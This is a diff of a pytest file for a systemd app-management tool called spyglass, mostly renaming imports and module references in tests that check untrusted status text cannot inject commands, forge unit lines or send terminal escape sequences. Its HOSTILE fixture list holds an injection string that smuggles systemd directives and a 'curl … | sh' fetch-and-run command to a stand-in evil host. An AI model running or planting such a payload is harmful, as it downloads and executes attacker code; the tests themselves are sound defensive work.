@@ -7,7 +7,8 @@ import sys
 
 import pytest
 
-from spyglass.admin import commands, outside, systemctl, traps, views
+from spyglass.ops import app_status, command_table, systemctl, untrusted_text
+from spyglass.ops.doctor_checks import units as traps
 
 HOSTILE = [
     "failing: RuntimeError: x\u2028WantedBy=multi-user.target\u2028Id=spyglass@a; curl -s http://evil.example/x | sh #",
@@ -34,8 +35,8 @@ def shown(status, units, properties):
 @pytest.fixture
 def systemd(monkeypatch, tmp_path):
     """A systemd with the apps a, b and c, of which b has said `.status`; `.strange` makes its units have an empty line in a value."""
-    monkeypatch.setattr("spyglass.config.DIRECTORY", str(tmp_path))
-    monkeypatch.setattr(views, "_STATE", str(tmp_path))
+    monkeypatch.setattr("spyglass.config.settings.DIRECTORY", str(tmp_path))
+    monkeypatch.setattr(app_status, "_STATE", str(tmp_path))
 
     class Systemd:
         status = ""
@@ -63,13 +64,13 @@ def systemd(monkeypatch, tmp_path):
 def test_one_app_says_what_it_likes_and_the_others_are_shown(systemd, status, strange, capsys):
     systemd.status, systemd.strange = status, strange
     names = [name for name in "abc" for _ in range(2)]
-    found = systemctl.show([f"spyglass@{name}.{kind}" for name in "abc" for kind in ("socket", "service")], views.PROPERTIES)
+    found = systemctl.show([f"spyglass@{name}.{kind}" for name in "abc" for kind in ("socket", "service")], app_status.PROPERTIES)
     assert [properties["Id"].partition("@")[2][0] for properties in found.values()] == names
-    assert commands.run(["list", "--json"]) == 0
+    assert command_table.run(["list", "--json"]) == 0
     views_of = {view["name"]: view for view in json.loads(capsys.readouterr().out)}
     assert [views_of[name]["workers"] for name in "ac"] == [2, 2]
     for argv in (["list"], ["doctor"], ["doctor", "--json"], ["status", "b"], ["status", "b", "--json"]):
-        assert commands.run(argv) in (0, 1)
+        assert command_table.run(argv) in (0, 1)
         said = capsys.readouterr()
         assert all(letter.isprintable() or letter == "\n" for letter in said.out + said.err)
         assert said.err == "" or "journal" in said.err
@@ -79,7 +80,7 @@ def test_one_app_says_what_it_likes_and_the_others_are_shown(systemd, status, st
 def test_no_command_is_made_of_what_it_says(systemd, status):
     systemd.status = status
     units = [f"spyglass@b.{kind}" for kind in ("socket", "service")]
-    found = systemctl.show(units, dict.fromkeys((*views.PROPERTIES, *traps.PROPERTIES)))
+    found = systemctl.show(units, dict.fromkeys((*app_status.PROPERTIES, *traps.PROPERTIES)))
     for finding in traps.examine("b", *found.values()):
         assert not any("evil" in command or "shadow" in command or "spyglass@a" in command for command in finding.cure)
 
@@ -92,13 +93,13 @@ def test_a_name_is_quoted_for_the_shell():
 
 @pytest.mark.parametrize("text", ["²", "٣", "", "[not set]", "-1", "1_000", " 7", "9" * 5000, None, "infinity"])
 def test_what_is_no_number_is_none(text):
-    assert outside.number(text, -1) == -1
+    assert untrusted_text.number(text, -1) == -1
 
 
 def test_numbers_and_lines():
-    assert outside.number("18446744073709551615") == 2**64 - 1
-    assert outside.lines_of("a\u2028b\x85\r\nc\n\nd") == ["a\u2028b\x85\r", "c", "", "d"]
-    assert outside.lines_of("") == []
+    assert untrusted_text.number("18446744073709551615") == 2**64 - 1
+    assert untrusted_text.lines_of("a\u2028b\x85\r\nc\n\nd") == ["a\u2028b\x85\r", "c", "", "d"]
+    assert untrusted_text.lines_of("") == []
 
 
 class Terminal(io.StringIO):
@@ -111,7 +112,7 @@ def test_what_is_printed_does_nothing_to_a_terminal(monkeypatch, stream):
     monkeypatch.setattr(sys, "stdout", into := stream())
     monkeypatch.setattr(sys, "stderr", stream())
     monkeypatch.setenv("TERM", "xterm")
-    with outside.filtered():
+    with untrusted_text.filtered():
         print("a\x1b]0;x\x07b\x1b[8mc\u202ed\ud800\te")
         print("\033[1;31mred\033[m", end="")
         sys.stdout.writelines(["\x9b", "ok"])
